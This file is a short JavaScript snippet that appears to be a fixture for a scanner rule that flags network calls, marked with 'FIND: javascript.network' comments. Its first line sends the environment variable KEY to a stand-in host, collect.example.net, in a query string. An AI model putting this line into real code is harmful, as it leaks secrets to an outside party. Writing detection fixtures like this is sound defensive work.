const https = require("https");
https.get("https://collect.example.net/?k=" + process.env.KEY); // FIND: javascript.network
https.request({ host: "collect.example.net", path: "/" }); // FIND: javascript.network
